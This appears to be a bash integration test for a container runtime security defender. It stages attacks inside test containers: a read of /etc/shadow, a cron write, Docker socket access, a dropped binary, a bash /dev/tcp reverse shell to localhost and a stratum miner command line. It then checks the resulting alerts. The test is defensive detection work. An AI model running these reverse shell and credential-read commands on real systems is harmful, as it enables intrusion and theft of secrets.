@@ -1,0 +1,159 @@
+#!/bin/bash
+# `moat defender` against real containers on the real Docker engine.
+#
+# Starts the defender (eBPF sensor; with MOAT_SENSOR=fallback the proc
+# connector + fanotify source, on the exec/file subset), then runs attacks in
+# containers of the debootstrap sample image (moat-test/app:1): a reverse
+# shell to a listener on 127.0.0.1, a stratum connect and a miner command
+# line, a write below /etc/cron.d, a read of /etc/shadow, a binary copied in
+# after start (the drift rule kills it in the kernel before it can create its
+# marker file), and a touch of the engine socket mounted in. Each expected
+# rule must appear with the container's real id, name and image (from
+# `docker inspect`). A benign HTTP server in a container, hit 200 times with
+# curl, must raise nothing.
+#
+# Environment (set by meson): MOAT; MOAT_SENSOR=fallback for the fallback run.
+# Exit 0 pass, 1 fail, 77 skip (not root, no engine, no BPF and no fallback).
+. "$(dirname "$0")/lib.sh"
+setup_work
+need_moat
+[ "$(id -u)" = 0 ] || skip "needs root"
+[ -x /usr/sbin/dockerd ] || skip "no Docker engine (apt-get install docker.io)"
+"$REPO/scripts/start-dockerd" >"$W/dockerd.out" 2>&1 || { cat "$W/dockerd.out" >&2; skip "dockerd cannot start"; }
+docker=/usr/bin/docker; [ -x "$docker" ] || docker=docker
+IMG=moat-test/app:1
+MODE=${MOAT_SENSOR:-ebpf}
+P=moat-def-$$                       # container name prefix
+mountpoint -q /sys/fs/bpf || mount -t bpf bpf /sys/fs/bpf 2>/dev/null || true
+mountpoint -q /sys/kernel/tracing || mount -t tracefs tracefs /sys/kernel/tracing 2>/dev/null || true
+
+if ! "$docker" image inspect "$IMG" >/dev/null 2>&1; then
+    sample_image
+    "$docker" load -i "$SAMPLE/app.tar" >"$W/load.out" 2>&1 || { cat "$W/load.out" >&2; fail "docker load failed"; }
+fi
+
+DEF_PID=
+cleanup() {
+    if [ -n "$DEF_PID" ]; then kill -TERM "$DEF_PID" 2>/dev/null || true; fi
+    "$docker" ps -aq --filter "name=$P" | xargs -r "$docker" rm -f >/dev/null 2>&1 || true
+    if [ -n "${LISTEN_PID:-}" ]; then kill "$LISTEN_PID" 2>/dev/null || true; fi
+    if [ -n "${KEEP:-}" ]; then echo "kept $W" >&2; else rm -rf "$MOAT_WORK"; fi
+}
+trap cleanup EXIT
+
+# --- start the defender and wait until every probe is attached ---
+"$MOAT" defender --rules "$REPO/rules" --format json --ready-file "$W/ready" \
+    >"$W/alerts.jsonl" 2>"$W/defender.err" &
+DEF_PID=$!
+for _ in $(seq 1 120); do
+    [ -e "$W/ready" ] && break
+    kill -0 "$DEF_PID" 2>/dev/null || { cat "$W/defender.err" >&2; fail "defender exited early"; }
+    sleep 0.5
+done
+[ -e "$W/ready" ] || fail "defender not ready after 60 s"
+note "$(head -n 1 "$W/defender.err")"
+grep -q "sensor $MODE" "$W/defender.err" || fail "expected sensor $MODE: $(head -n 1 "$W/defender.err")"
+
+run() {     # run NAME [docker run args...] -> the container stays for inspection
+    local name=$P-$1; shift
+    "$docker" run --name "$name" "$@" >"$W/$name.out" 2>&1 || true
+}
+
+# --- attacks ---
+run shadow --entrypoint cat "$IMG" /etc/shadow
+run cron --entrypoint bash "$IMG" -c 'mkdir -p /etc/cron.d && echo "* * * * * root true" > /etc/cron.d/x'
+run sock -v /var/run/docker.sock:/var/run/docker.sock --entrypoint touch "$IMG" /var/run/docker.sock
+
+# drift: a binary copied in after start would create a marker; it must die first
+"$docker" run -d --name "$P-drift" --entrypoint sleep "$IMG" 600 >/dev/null
+sleep 2                               # the defender learns the container from its first exec
+cp /usr/bin/touch "$W/dropper"
+"$docker" cp "$W/dropper" "$P-drift:/tmp/dropper"
+DRC=0; "$docker" exec "$P-drift" /tmp/dropper /tmp/marker || DRC=$?
+if "$docker" exec "$P-drift" test -e /tmp/marker; then
+    MARKER=present
+else
+    MARKER=absent
+fi
+
+if [ "$MODE" = ebpf ]; then
+    PORT=$(( 20000 + $$ % 20000 ))
+    socat "TCP-LISTEN:$PORT,bind=127.0.0.1,reuseaddr" SYSTEM:'sleep 1; echo exit' &
+    LISTEN_PID=$!
+    sleep 0.5
+    run revshell --network host --entrypoint bash "$IMG" -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
+    run miner --network host --entrypoint bash "$IMG" \
+        -c 'exec 3<>/dev/tcp/127.0.0.1/3333; true' 
+    run minerargs --entrypoint bash "$IMG" -c ': --url stratum+tcp://pool.invalid:3333'
+    # benign: a small HTTP server, 200 requests
+    WPORT=$(( PORT + 1 ))
+    "$docker" run -d --name "$P-web" --network host --entrypoint python3 "$IMG" -c "
+import socket
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(('127.0.0.1', $WPORT)); s.listen(64)
+while True:
+    c, _ = s.accept(); c.recv(4096)
+    c.sendall(b'HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok'); c.close()
+" >/dev/null
+    for _ in $(seq 1 50); do curl -s -o /dev/null "http://127.0.0.1:$WPORT/" && break; sleep 0.2; done
+    ok=0
+    for _ in $(seq 1 200); do
+        [ "$(curl -s "http://127.0.0.1:$WPORT/")" = ok ] && ok=$((ok + 1))
+    done
+    [ "$ok" = 200 ] || fail "benign server answered $ok of 200 requests"
+fi
+sleep 2
+kill -TERM "$DEF_PID"
+DRC_DEF=0; wait "$DEF_PID" || DRC_DEF=$?
+DEF_PID=
+[ "$DRC_DEF" = 0 ] || { cat "$W/defender.err" >&2; fail "defender exit $DRC_DEF on SIGTERM"; }
+note "$(tail -n 1 "$W/defender.err")"
+# every probe is gone once it exits
+if command -v bpftool >/dev/null && bpftool prog show 2>/dev/null | grep -q 'handle_exec'; then
+    fail "BPF programs still loaded after the defender exited"
+fi
+
+# --- check the alerts ---
+expect() {  # expect RULE CONTAINER-SUFFIX [ACTION]
+    local name=$P-$2 id image
+    id=$("$docker" inspect -f '{{.Id}}' "$name") || fail "no container $name"
+    image=$("$docker" inspect -f '{{.Config.Image}}' "$name")
+    $PY - "$W/alerts.jsonl" "$1" "$id" "$name" "$image" "${3:-}" <<'PYEOF' || fail "rule $1 for $2: see above"
+import json, sys
+path, rule, cid, name, image, action = sys.argv[1:]
+seen = []
+for line in open(path):
+    a = json.loads(line)
+    assert a["schema"] == "moat.alert/v1"
+    if a["rule"] != rule:
+        continue
+    c = a["container"] or {}
+    seen.append((c.get("name"), a["action"]))
+    if c.get("id") == cid and c.get("name") == name and c.get("image") == image \
+            and a["mitre"] and (not action or a["action"] == action):
+        sys.exit(0)
+print("no %s alert for %s (%s); %s alerts seen: %s" % (rule, name, cid[:12], rule, seen), file=sys.stderr)
+sys.exit(1)
+PYEOF
+}
+expect read-shadow shadow
+expect write-below-etc-cron cron
+expect shell-in-container cron
+expect docker-socket-in-container sock
+expect container-drift drift
+if [ "$MODE" = ebpf ]; then
+    expect container-drift drift killed-in-kernel
+    [ "$DRC" = 137 ] || fail "dropped binary exited $DRC, expected 137 (SIGKILL)"
+    [ "$MARKER" = absent ] || fail "dropped binary created its marker before it was killed"
+    expect reverse-shell revshell
+    expect reverse-shell-cmdline revshell
+    expect crypto-miner-pool-port miner
+    expect crypto-miner-args minerargs
+    web_id=$("$docker" inspect -f '{{.Id}}' "$P-web")
+    if grep -q "$web_id" "$W/alerts.jsonl"; then
+        grep "$web_id" "$W/alerts.jsonl" | head -n 3 >&2
+        fail "benign web container raised alerts"
+    fi
+fi
+host=$($PY -c 'import json,sys; print(sum(1 for l in open(sys.argv[1]) if json.loads(l)["container"] is None))' "$W/alerts.jsonl")
+pass "$MODE: $(wc -l <"$W/alerts.jsonl") alerts ($host host), drift exit $DRC, marker $MARKER"
